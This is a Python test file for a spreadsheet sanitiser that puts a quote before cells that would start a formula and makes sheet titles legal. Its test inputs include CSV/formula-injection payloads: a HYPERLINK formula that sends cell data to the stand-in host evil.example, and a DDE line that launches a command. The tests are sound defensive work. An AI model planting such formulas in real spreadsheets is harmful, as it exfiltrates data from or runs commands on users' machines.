"""Text that would be a formula in Excel or WPS is written as text; sheet titles are legal."""

from __future__ import annotations

import pytest

from patron.core.spreadsheets import safe_cell, safe_sheet_title


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"点此领取优惠")',
        "+86 138 0013 8000",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["王小明", "VIP-1", "", "-5", "+1.5", "-.5", 12, -3, None, 1.5])
def test_plain_text_and_numbers_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_a_neutralised_cell_is_not_neutralised_twice() -> None:
    once = safe_cell("=1+1")
    assert safe_cell(once) == once


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("a/b", "a_b"),
        ("重要价值客户", "重要价值客户"),
        ("x:y\\z?*[1]", "x_y_z___1_"),
        ("line\r\nbreak", "line__break"),
        ("'quoted'", "quoted"),
        ("", "Sheet"),
        ("///", "___"),
        ("长" * 40, "长" * 31),
    ],
)
def test_sheet_titles_are_made_legal(title: str, expected: str) -> None:
    assert safe_sheet_title(title) == expected


def test_control_characters_no_cell_can_hold_are_dropped_and_the_file_saves() -> None:
    from io import BytesIO

    from openpyxl import Workbook, load_workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(
        [safe_cell("王\x00小\x0b明\x1f"), safe_cell("第一行\n第二行\t完"), safe_cell("\x01=1+1")]
    )
    out = BytesIO()
    book.save(out)
    row = next(load_workbook(BytesIO(out.getvalue())).active.iter_rows(values_only=True))
    assert row == ("王小明", "第一行\n第二行\t完", "'=1+1")
